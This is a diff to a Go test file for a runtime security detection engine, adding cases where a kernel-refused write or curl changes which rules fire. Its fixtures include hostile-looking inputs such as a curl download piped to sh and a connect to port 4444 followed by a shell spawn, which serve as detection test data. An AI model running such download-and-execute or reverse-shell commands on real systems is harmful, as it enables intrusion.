@@ -40,6 +40,12 @@ func denied(syscall string, at time.Duration) detect.Event {
 	})
 }
 
+// refused marks an event as refused by the kernel with EACCES.
+func refused(e detect.Event) detect.Event {
+	e.Result, e.Errno = -13, "EACCES"
+	return e
+}
+
 // fired runs events through a fresh state and returns the rules that fired.
 func fired(t *testing.T, e *Engine, evs ...detect.Event) []string {
 	t.Helper()
@@ -75,6 +81,13 @@ func TestBuiltins(t *testing.T) {
 		{"connect then shell", []detect.Event{connect("inet", "198.18.0.1", 4444), exec("/bin/sh", "-c", "exit 0")}, []string{"mining-pool", "shell-spawned", "reverse-shell"}},
 		{"download piped to shell", []detect.Event{exec("/bin/sh", "-c", "curl -fsS http://198.18.0.1/x | sh")}, []string{"shell-spawned", "download-exec"}},
 		{"write then exec", []detect.Event{open("/tmp/x/p", "write", "create"), exec("/tmp/x/p")}, []string{"tmp-write-exec", "exec-from-writable"}},
+		// A create the kernel refused wrote nothing: the exec is only
+		// an exec from a writable place.
+		{"refused write then exec", []detect.Event{refused(open("/tmp/x/p", "write", "create")), exec("/tmp/x/p")}, []string{"exec-from-writable"}},
+		{"curl, write, exec", []detect.Event{exec("/usr/bin/curl"), open("/tmp/p", "write", "create"), exec("/tmp/p")},
+			[]string{"download-exec", "tmp-write-exec", "exec-from-writable"}},
+		{"refused curl, write, exec", []detect.Event{refused(exec("/usr/bin/curl")), open("/tmp/p", "write", "create"), exec("/tmp/p")},
+			[]string{"tmp-write-exec", "exec-from-writable"}},
 		{"chmod +x in tmp", []detect.Event{ev("chmod", func(e *detect.Event) { e.Path, e.Mode = "/tmp/p", 0o755 })}, []string{"tmp-chmod-exec"}},
 		{"hidden exec", []detect.Event{exec("/var/task/.hidden")}, []string{"exec-from-writable"}},
 		{"shm exec attempt", []detect.Event{func() detect.Event { x := exec("/dev/shm/p"); x.Result, x.Errno = -2, "ENOENT"; return x }()}, []string{"exec-from-writable"}},
